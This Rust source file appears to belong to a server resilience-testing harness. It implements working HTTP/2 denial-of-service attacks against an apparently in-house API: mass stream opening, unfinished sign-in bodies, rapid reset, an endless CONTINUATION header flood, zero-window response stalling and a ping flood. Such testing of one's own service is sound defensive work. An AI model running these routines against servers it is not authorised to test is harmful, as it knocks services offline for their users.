//! Resources that a single HTTP/2 connection can hold or consume.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::answers::owners;
use super::frames::{END_HEADERS, END_STREAM, Kind, beginning, frame, headers, literal};
use crate::attack::Attack;
use crate::stage::{Play, Stage, crowd, read_to_end, ready};

const KIND: &str = "HTTP/2";
/// `SETTINGS_INITIAL_WINDOW_SIZE`: bytes that the server may send on a stream before the client reads.
const INITIAL_WINDOW: u16 = 4;
/// Attacks of this kind.
pub const ATTACKS: &[Attack] = &[
    Attack::new(
        "many-streams",
        KIND,
        "one connection begins 20,000 sign-ins whose bodies never come",
        |stage| ready(many_streams(stage)),
    ),
    Attack::new(
        "unfinished-bodies",
        KIND,
        "60 connections begin 100 sign-ins each and send 63 kB of their bodies",
        |stage| ready(unfinished_bodies(stage)),
    ),
    Attack::new(
        "rapid-reset",
        KIND,
        "8 connections begin requests and reset them at once, as fast as they can",
        |stage| ready(rapid_reset(stage)),
    ),
    Attack::variation(
        "header-lists",
        KIND,
        "16 connections send header lists that go on for ever in continuations of 16 kB",
        |stage| ready(header_lists(stage)),
    ),
    Attack::variation(
        "closed-windows",
        KIND,
        "50 connections ask for 100 pages of 2 MB each and let the server send nothing",
        |stage| Box::pin(closed_windows(stage)),
    ),
    Attack::variation(
        "pings",
        KIND,
        "8 connections send pings and settings as fast as they can and read no acknowledgement",
        |stage| ready(pings(stage)),
    ),
];

/// Stream identifiers of a client: odd numbers.
fn streams() -> impl Iterator<Item = u32> {
    (1..u32::MAX >> 1).step_by(2)
}

/// Sends all pieces until the server closes, and counts the result.
async fn send_all(
    stage: &Stage,
    connection: &mut (impl AsyncWriteExt + Unpin),
    bytes: impl Iterator<Item = Vec<u8>>,
    what: &str,
) {
    for bytes in bytes {
        if connection.write_all(&bytes).await.is_err() {
            return stage.hear("closed");
        }
        stage.hear(what);
    }
}

/// Attack by connections that start with these settings, send these bytes and read every response.
fn sending<B>(stage: Stage, connections: usize, what: &'static str, bytes: B) -> Play
where
    B: Fn() -> Box<dyn Iterator<Item = Vec<u8>> + Send> + Clone + Send + Sync + 'static,
{
    crowd(connections, move |_| {
        let (stage, bytes) = (stage.clone(), bytes.clone());
        async move {
            let Some(connection) = stage.connect_and_send(&beginning(&[])).await else { return };
            let (mut read, mut write) = connection.into_split();
            let mut buffer = vec![0; 16 * 1024];
            let reading = async {
                use tokio::io::AsyncReadExt as _;
                while matches!(read.read(&mut buffer).await, Ok(count) if count > 0) {}
            };
            let sending = async {
                send_all(&stage, &mut write, bytes(), what).await;
                crate::stage::hold().await;
            };
            tokio::select! {
                () = reading => stage.hear("closed"),
                () = sending => {}
            }
            // A server that closes at once is tried again, but not in a busy loop.
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    })
}

fn sign_in_head() -> Vec<u8> {
    headers("POST", "/api/auth/signin", &[("content-type", "application/json")])
}

fn many_streams(stage: Stage) -> Play {
    let begin = || {
        let begin = |stream| frame(Kind::Headers, END_HEADERS, stream, &sign_in_head());
        Box::new(streams().take(20_000).map(begin)) as Box<dyn Iterator<Item = _> + Send>
    };
    sending(stage, 1, "stream", begin)
}

fn unfinished_bodies(stage: Stage) -> Play {
    let begin = || {
        let part = |stream| {
            let mut bytes = frame(Kind::Headers, END_HEADERS, stream, &sign_in_head());
            for _ in 0..4 {
                bytes.extend(frame(Kind::Data, 0, stream, &[b' '; 15_750]));
            }
            bytes
        };
        Box::new(streams().take(100).map(part)) as Box<dyn Iterator<Item = _> + Send>
    };
    sending(stage, 60, "body", begin)
}

fn rapid_reset(stage: Stage) -> Play {
    let begin = || {
        let head = headers("GET", "/.well-known/jwks.json", &[]);
        let part = move |stream| {
            let mut bytes = frame(Kind::Headers, END_HEADERS | END_STREAM, stream, &head);
            bytes.extend(frame(Kind::Reset, 0, stream, &8_u32.to_be_bytes()));
            bytes
        };
        Box::new(streams().map(part)) as Box<dyn Iterator<Item = _> + Send>
    };
    sending(stage, 8, "reset", begin)
}

fn header_lists(stage: Stage) -> Play {
    let begin = || {
        let first = frame(Kind::Headers, 0, 1, &headers("GET", "/health/live", &[]));
        let header = literal("x", &"h".repeat(16_000));
        let more = std::iter::repeat_with(move || frame(Kind::Continuation, 0, 1, &header));
        Box::new(std::iter::once(first).chain(more)) as Box<dyn Iterator<Item = _> + Send>
    };
    sending(stage, 16, "continuation", begin)
}

async fn closed_windows(stage: Stage) -> anyhow::Result<Play> {
    let people = owners(&stage, 4).await?;
    let requests: Vec<Vec<u8>> = people
        .iter()
        .map(|person| {
            let (path, bearer) = (format!("{}?limit=1000", person.tasks()), person.bearer());
            let head = headers("GET", &path, &[("authorization", &bearer)]);
            let ask = |stream| frame(Kind::Headers, END_HEADERS | END_STREAM, stream, &head);
            let mut bytes = beginning(&[(INITIAL_WINDOW, 0)]);
            bytes.extend(streams().take(100).flat_map(ask));
            bytes
        })
        .collect();
    let requests = Arc::new(requests);
    Ok(crowd(50, move |number| {
        let (stage, requests) = (stage.clone(), Arc::clone(&requests));
        async move {
            let Some(request) = requests.get(number % 4) else { return };
            let Some(mut connection) = stage.connect_and_send(request).await else { return };
            stage.hear("asked for 100");
            // Frames are read, but with a window of zero the server can send no bytes of a response.
            read_to_end(&mut connection).await;
            stage.hear("closed");
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }))
}

fn pings(stage: Stage) -> Play {
    let mut bytes = Vec::new();
    for number in 0..100_u64 {
        bytes.extend(frame(Kind::Ping, 0, 0, &number.to_be_bytes()));
        bytes.extend(frame(Kind::Settings, 0, 0, &[]));
    }
    let bytes: Arc<[u8]> = bytes.into();
    crowd(8, move |_| {
        let (stage, bytes) = (stage.clone(), Arc::clone(&bytes));
        async move {
            let Some(mut connection) = stage.connect_and_send(&beginning(&[])).await else {
                return;
            };
            send_unheard(&stage, &mut connection, &bytes).await;
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    })
}

async fn send_unheard(stage: &Stage, connection: &mut TcpStream, bytes: &[u8]) {
    while connection.write_all(bytes).await.is_ok() {
        stage.hear("100 pings");
    }
    stage.hear("closed");
}
